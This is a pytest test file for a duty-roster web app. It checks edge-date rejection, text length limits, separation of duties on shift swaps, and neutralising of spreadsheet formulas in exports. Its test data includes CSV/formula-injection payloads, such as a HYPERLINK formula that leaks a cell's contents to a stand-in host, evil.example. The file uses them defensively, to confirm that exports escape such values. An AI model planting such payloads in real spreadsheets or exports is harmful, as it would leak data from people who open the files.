"""Edge input gets a 4xx or a clear refusal, never a 500: dates of year 1 and 9999 in every roster URL, form, API
and service; free text over its limit; formula-looking names in the exports; four eyes on swaps."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from sqlmodel import select

from desk.db import session_scope
from desk.models import Person
from roster import drafts, exports, leave_swaps, refusals
from roster.domain import Assignment, Member
from roster.models import RosterVersion
from tests.conftest import csrf_token, login
from tests.roster.test_leave_swaps import START, published_desk, seats

FAR = ("0001-01", "9999-12")
MOMENTS = ("0001-01-01T00:00:00", "9999-12-31T23:59:59", "9999-12-31T23:59:59+08:00", "0001-01-01T00:00:00Z",
           "1999-12-31T12:00:00", "2101-01-01T00:00:00")


@pytest.fixture
def leader(app, client):
    published_desk(app)
    assert login(client, "leada").status_code == 302
    return client


def _post(client, url: str, page: str, **data):
    token = csrf_token(client.get(page).get_data(as_text=True))
    return client.post(url, data={"csrf_token": token, **data})


@pytest.mark.parametrize("at", MOMENTS)
def test_oncall_at_far_moments_is_400(leader, at):
    r = leader.get(f"/api/v1/oncall?at={at}")
    assert r.status_code == 400 and "between the years 2000 and 2100" in r.get_json()["error"]["message"]


def test_far_months_and_dates_are_400_on_every_page(leader):
    for month in FAR:
        for url in (f"/roster/?month={month}", f"/roster/export?month={month}", f"/roster/export?month={month}"
                    "&format=csv", f"/roster/generate?month={month}"):
            r = leader.get(url)
            assert r.status_code == 400 and "between the years 2000 and 2100" in r.get_data(as_text=True), url
    r = leader.get("/api/v1/roster?from=9999-12-30&to=9999-12-31")
    assert r.status_code == 400 and r.get_json()["error"]["code"] == "bad_dates"
    assert leader.get("/roster/?month=2100-12").status_code == 200  # the last month the desk knows


def test_a_roster_for_year_1_or_9999_is_refused_before_the_solve(leader, app):
    for first, last in (("0001-01-01", "0001-01-31"), ("9999-12-01", "9999-12-31")):
        r = _post(leader, "/roster/generate", "/roster/generate", start=first, end=last, note="")
        assert r.status_code == 422 and "between the years 2000 and 2100" in r.get_data(as_text=True)
        with session_scope(app.extensions["dutydesk.engine"]) as s, pytest.raises(refusals.RosterError,
                                                                                     match="2000 and 2100"):
            drafts.create_draft(s, actor="leada", start=date.fromisoformat(first), end=date.fromisoformat(last))
    with session_scope(app.extensions["dutydesk.engine"]) as s:
        assert s.exec(select(RosterVersion).where(RosterVersion.status == "draft")).all() == []
    out = app.test_cli_runner().invoke(args=["roster", "generate", "--start", "9999-12-25", "--days", "14"])
    assert out.exit_code == 2 and "2000 and 2100" in out.output


def test_leave_in_year_1_or_9999_is_refused(app, client):
    published_desk(app)
    assert login(client, "infob").status_code == 302
    for day in ("0001-01-01", "9999-12-31"):
        r = _post(client, "/requests/leave/new", "/requests/leave/new", start=day, end=day, shift="", reason="x")
        assert r.status_code == 422 and "between the years 2000 and 2100" in r.get_data(as_text=True)
        engine = app.extensions["dutydesk.engine"]
        with session_scope(engine) as s, pytest.raises(leave_swaps.RequestError, match="2000"):
            leave_swaps.ask_leave(s, actor="infob", username="infob", start=date.fromisoformat(day),
                          end=date.fromisoformat(day))


def test_free_text_over_its_limit_is_refused_not_cut(app):
    published_desk(app)
    with session_scope(app.extensions["dutydesk.engine"]) as s:
        with pytest.raises(leave_swaps.RequestError, match="at most 500 characters"):
            leave_swaps.ask_leave(s, actor="infob", username="infob", start=START, end=START, reason="x" * 501)
        leave = leave_swaps.ask_leave(s, actor="infob", username="infob", start=START, end=START, reason="x" * 500)
        with pytest.raises(leave_swaps.RequestError, match="at most 500 characters"):
            leave_swaps.reject_leave(s, actor="leada", leave_id=leave.id, note="n" * 501)
        day = next(a for a in seats(s, "infob") if a.shift == "D").day
        with pytest.raises(leave_swaps.RequestError, match="at most 2000 characters"):
            leave_swaps.propose_swap(s, actor="infob", day=day, shift="D", target="spare", message="m" * 2001)
        with pytest.raises(refusals.RosterError, match="at most 500 characters"):
            drafts.create_draft(s, actor="leada", start=START, end=START, note="n" * 501)


def test_a_leader_party_to_a_swap_cannot_decide_it(app, client):
    published_desk(app)
    with session_scope(app.extensions["dutydesk.engine"]) as s:
        day = next(a for a in seats(s, "infob") if a.shift == "D").day
        s.get(Person, s.exec(select(Person.id).where(Person.username == "spare")).one()).role = "leader"
        swap = leave_swaps.propose_swap(s, actor="infob", day=day, shift="D", target="spare")
        leave_swaps.accept_swap(s, actor="spare", swap_id=swap.id)
    with session_scope(app.extensions["dutydesk.engine"]) as s:
        for decide in (lambda: leave_swaps.approve_swap(s, actor="spare", swap_id=swap.id),
                       lambda: leave_swaps.reject_swap(s, actor="spare", swap_id=swap.id, note="no")):
            with pytest.raises(leave_swaps.RequestError, match="part of this swap"):
                decide()
    assert login(client, "spare").status_code == 302
    page = client.get(f"/requests/swap/{swap.id}").get_data(as_text=True)
    assert 'id="approve-swap"' not in page and 'id="decide-why"' in page and "another leader" in page
    r = _post(client, f"/requests/swap/{swap.id}/approve", f"/requests/swap/{swap.id}", note="")
    assert "part of this swap" in client.get(r.location).get_data(as_text=True)
    with session_scope(app.extensions["dutydesk.engine"]) as s:
        assert s.get(type(swap), swap.id).status == "accepted"


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")


@pytest.mark.parametrize("name", FORMULAS)
def test_exports_neutralise_formula_cells(name):
    people = (Member("evil", name, "watcher", frozenset({"info"}), "A"),)
    rows = (Assignment(START, "D", "info", "evil"),)
    cell = next(csv.DictReader(io.StringIO(exports.roster_csv(rows, people))))["name"]
    assert cell == "'" + name
    sheet = openpyxl.load_workbook(io.BytesIO(exports.roster_xlsx(rows, people, START, START, day_kinds={}))).active
    names = [sheet.cell(r, 1) for r in range(4, 6)]
    assert any(c.value and c.value.startswith("'") and c.data_type == "s" for c in names)  # text, never a formula
    assert exports.safe_cell("李雷") == "李雷" and exports.safe_cell(3) == 3


def test_the_published_export_of_a_formula_name_is_text(app, client):
    published_desk(app)
    with session_scope(app.extensions["dutydesk.engine"]) as s:
        s.get(Person, s.exec(select(Person.id).where(Person.username == "infob")).one()).display_name = (
            '=HYPERLINK("http://evil.example","x")')
    assert login(client, "leada").status_code == 302
    text = client.get(f"/roster/export?month={START:%Y-%m}&format=csv").get_data(as_text=True)
    assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text
